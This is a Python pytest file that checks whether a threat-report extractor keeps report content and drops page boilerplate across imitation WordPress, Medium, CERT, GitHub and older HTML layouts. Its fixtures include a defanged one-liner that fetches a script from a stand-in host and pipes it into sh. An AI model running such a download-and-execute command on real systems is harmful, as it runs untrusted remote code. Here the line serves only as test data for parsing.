"""Pages in the styles of real sites: what must be read of them, and what must not.

Each page holds marked values: ``keep-N.example`` belongs to the report, ``drop-N.example`` to the
page around it. The markup follows common systems; the words are made up.
"""

# ruff: noqa: E501  # markup, wrapped where white space means nothing
from __future__ import annotations

import re

import pytest

from read_helpers import blocks, document

PROSE = "".join(
    f"<p>The operators sent a document in step {n} and used keep-p{n}.example for control, which "
    "the victim's machine asked every ten minutes for further commands.</p>"
    for n in range(3)
)
TABLE = (
    "<table><thead><tr><th>Type</th><th>Indicator</th></tr></thead><tbody>"
    "<tr><td>Domain</td><td>keep-t1.example</td></tr>"
    "<tr><td>Domain</td><td>keep-<b>t2</b>[.]example</td></tr></tbody></table>"
)
ROWS = "Type\tIndicator\nDomain\tkeep-t1.example\nDomain\tkeep-t2[.]example"
CODE = "<pre><code>curl hxxp://keep-c1.example/a\n  | sh</code></pre>"
LIST = "<ul><li>keep-l1.example</li><li>keep-l2.example</li></ul>"
SIDE = "".join(
    f'<li><a href="/p{n}">Another post about drop-s{n}.example</a></li>' for n in range(4)
)
REPORT = PROSE + TABLE + CODE + LIST

PAGES = {
    "wordpress": f"""<!doctype html><html><body class="single single-post has-sidebar">
<header id="masthead" class="site-header"><div class="logo">Vendor</div><nav id="site-navigation">
<ul class="menu">{SIDE}</ul></nav></header><div id="content"><div id="primary" class="content-area">
<article class="post type-post tag-malware category-cookies"><header class="entry-header">
<h1 class="entry-title">Title keep-h1.example</h1><time datetime="2020-06-24">June</time></header>
<div class="entry-content">{REPORT}<div class="sharedaddy sd-sharing-enabled">
<h3>Share this: drop-share.example</h3></div><div id="jp-relatedposts" class="jp-relatedposts">
<a href="#">drop-rel.example</a></div></div><footer class="entry-footer"><a href="/t">drop-tag.example</a>
<a href="/u">drop-tag2.example</a></footer></article><div id="comments" class="comments-area">
<ol class="comment-list"><li><article class="comment-body"><p>drop-com.example</p></article></li>
</ol></div></div><aside id="secondary" class="widget-area"><section class="widget"><ul>{SIDE}</ul>
</section></aside></div><footer id="colophon" class="site-footer">drop-foot.example</footer></body>""",
    "elementor": f"""<html><body class="elementor-page"><div class="elementor elementor-location-header">
<div class="elementor-widget-nav-menu"><a href="/">drop-n.example</a></div></div>
<div class="elementor elementor-location-single"><section><div class="elementor-widget-theme-post-title">
<h1>Title keep-h1.example</h1></div><div class="elementor-widget-theme-post-content">{REPORT}</div>
<div class="elementor-widget-share-buttons">drop-share.example</div></section></div></body>""",
    "medium": f"""<html><body><div id="root"><div class="a b c"><div class="d"><a href="/">Open in app
drop-app.example</a><a href="/s">Sign up</a><a href="/i">Sign in</a></div><article><div><div>
<section><div><h1 class="pw-post-title">Title keep-h1.example</h1>{REPORT}</div></section></div></div>
</article><div class="e f"><div><a href="/x1">More from us drop-m1.example</a><a href="/x2">drop-m2.example
</a><a href="/x3">drop-m3.example</a></div></div></div></div></body>""",
    "cert": f"""<html><body><div class="usa-banner" role="banner">An official site drop-b.example</div>
<header role="banner" class="usa-header"><nav class="usa-nav"><ul>{SIDE}</ul></nav></header>
<main id="main" class="c-main" role="main"><div class="l-full"><h1>Title keep-h1.example</h1>
<div>Release Date: <span>June 24, 2020</span></div>{PROSE}<h2>Indicators</h2>
<table class="tablesaw"><caption>Table 1: keep-cap.example</caption><tr><th scope="col">Type</th>
<th>Indicator</th></tr><tr><td><p>Domain</p></td><td><p>keep-t1.example</p></td></tr><tr><td>
<p>Domain</p></td><td><p>keep-<strong>t2</strong>[.]example</p></td></tr></table>{CODE}{LIST}</div>
<div class="c-survey">Please share your thoughts</div></main>
<footer class="usa-footer" role="contentinfo">drop-foot.example</footer></body>""",
    "github": f"""<html><body class="logged-out"><div class="Header"><nav aria-label="Global">
<a href="/f">drop-nav.example</a></nav></div><main id="js-repo-pjax-container"><div
class="repository-content"><div class="Box-sc-1 js-sidebar-tree"><nav><ul>{SIDE}</ul></nav></div>
<article class="markdown-body entry-content container-lg" itemprop="text"><div class="markdown-heading">
<h1>Title keep-h1.example</h1><a class="anchor" href="#t"><svg><path/></svg></a></div>{PROSE}
<markdown-accessiblity-table>{TABLE}</markdown-accessiblity-table><div class="highlight
highlight-source-shell"><pre>curl hxxp://keep-c1.example/a\n  | sh</pre><div class="zeroclipboard">
<clipboard-copy><svg></svg></clipboard-copy></div></div>{LIST}</article></div></main>
<footer class="footer">drop-foot.example</footer></body>""",
    "div-soup": f"""<html><body><div class="css-1a"><div class="css-2b"><a href="/1">Products
drop-1.example</a><a href="/2">Solutions drop-2.example</a><a href="/3">drop-3.example</a></div></div>
<div class="css-3c"><div class="css-4d"><div class="css-h"><h1>Title keep-h1.example</h1></div>
<div class="css-5e">{REPORT.replace("<p>", '<div class="css-p">').replace("</p>", "</div>")}</div>
</div></div><div class="css-6f"><div><a href="/a">drop-a.example</a></div><div><a href="/b">
drop-b.example</a></div><div><a href="/c">drop-c.example</a></div></div></body>""",
    "table-after-article": f"""<html><body><nav>drop-n.example</nav><div class="page"><article
class="post"><h1>Title keep-h1.example</h1>{PROSE}{CODE}{LIST}</article><section class="appendix">
<h2>IOCs</h2>{TABLE}</section></div><div class="newsletter-signup">drop-news.example</div></body>""",
    "no-landmarks-1999": f"""<HTML><BODY BGCOLOR=white><TABLE WIDTH=100%><TR><TD COLSPAN=2>
<H1>Title keep-h1.example</H1></TD></TR><TR><TD><A HREF=/a>drop-a.example</A><BR><A HREF=/b>
drop-b.example</A><BR><A HREF=/c>drop-c.example</A></TD><TD>{REPORT}</TD></TR></TABLE></BODY></HTML>""",
    "asp-form": f"""<html><body><form id="aspnetForm" action="x"><div id="s4-topnav" class="menu">
<a href="/">drop-n.example</a></div><div id="search-box" class="search"><input>drop-q.example</div>
<div id="s4-bodyContainer"><h1>Title keep-h1.example</h1><div class="ms-rtestate-field">{REPORT}</div>
</div><div class="breadcrumb">drop-bc.example</div></form></body></html>""",
    "cookies-and-modals": f"""<html><body><div id="onetrust-consent-sdk"><p>We value your privacy
drop-ot.example</p></div><div class="gdpr-banner"><p>drop-g.example</p></div><div class="modal fade"
role="dialog"><p>drop-m.example</p></div><a class="skip-link screen-reader-text" href="#c">
drop-skip.example</a><div role="main"><h1>Title keep-h1.example</h1>{REPORT}<aside class="related-content">
<h3>Related</h3><a href="/r">drop-r.example</a></aside><div class="author-social">drop-x.example</div>
</div></body></html>""",
}  # fmt: skip


@pytest.mark.parametrize("name", PAGES)
def test_the_report_is_kept_and_the_page_around_it_dropped(name: str) -> None:
    page = PAGES[name]
    found = document(page, f"{name}.html")
    flat = re.sub(r"<[^>]+>", "", page)
    for mark in sorted(set(re.findall(r"keep-[a-z0-9]+\[?\.\]?example", flat))):
        assert mark in found.text, mark
    if name != "no-landmarks-1999":  # nothing tells its links from a list of linked indicators
        assert re.findall(r"drop-\w+\.example", found.text) == []


@pytest.mark.parametrize("name", PAGES)
def test_tables_code_and_lists_keep_their_form(name: str) -> None:
    found = document(PAGES[name], f"{name}.html")
    assert any(table.endswith(ROWS) for table in blocks(found, "table"))
    assert "curl hxxp://keep-c1.example/a\n  | sh" in blocks(found, "code")
    assert "keep-l1.example\nkeep-l2.example" in blocks(found, "list")
    assert "Title keep-h1.example" in blocks(found, "heading")
